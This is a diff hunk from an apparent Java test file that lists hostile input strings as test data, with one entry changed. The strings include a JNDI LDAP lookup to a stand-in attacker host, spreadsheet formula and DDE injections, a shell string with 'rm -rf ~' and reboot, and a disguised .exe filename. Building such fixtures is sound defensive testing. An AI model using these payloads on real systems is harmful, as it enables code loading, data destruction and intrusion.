@@ -469,7 +469,7 @@ public final class GoldenNights {
             "\u202egnp.exe\u202c\u200b\u2066hidden\u2069",
             "${jndi:ldap://evil.example/a}${7*7}{{subject}}",
             "'; rm -rf ~; echo '$(reboot)`reboot`",
-            "=HYPERLINK(\"https://evil.example/\";\"salary\")",
+            "=HYPERLINK(\"https://evil.example/\"; =1+1)",
             "@SUM(1+1)*cmd|' /C calc'!A0",
             "x".repeat(1024));
     var due = NOW.minus(Duration.ofDays(2));
